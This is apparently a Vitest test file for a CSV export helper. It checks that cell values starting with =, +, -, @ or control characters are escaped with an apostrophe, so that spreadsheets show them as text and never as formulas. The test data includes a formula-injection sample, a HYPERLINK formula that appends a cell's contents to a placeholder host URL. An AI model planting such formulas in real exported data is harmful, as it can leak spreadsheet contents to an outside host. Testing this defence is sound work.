import { describe, expect, it } from 'vitest';
import { csvField, spreadsheetAmount, spreadsheetCsv } from '@/lib/csv';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://x"&A1,"Apri")', `"'=HYPERLINK(""http://x""&A1,""Apri"")"`],
    ['+39 011 1234', "'+39 011 1234"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['\ncmd', `"'\ncmd"`],
  ])('shows %j as text, never as a formula', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('leaves ordinary text and numbers as they are, quoting separators', () => {
    expect(csvField('Osteria del Borgo')).toBe('Osteria del Borgo');
    expect(csvField('-12,50')).toBe('-12,50');
    expect(csvField('12,50')).toBe('12,50');
    expect(csvField('Via Roma; 1')).toBe('"Via Roma; 1"');
    expect(csvField('il "Bun"')).toBe('"il ""Bun"""');
  });
});

describe('spreadsheetCsv', () => {
  it('writes a BOM, semicolons and CRLF', () => {
    expect(
      spreadsheetCsv([
        ['a', 'b'],
        ['=1', spreadsheetAmount(3.5)],
      ]),
    ).toBe("\uFEFFa;b\r\n'=1;3,50\r\n");
  });
});
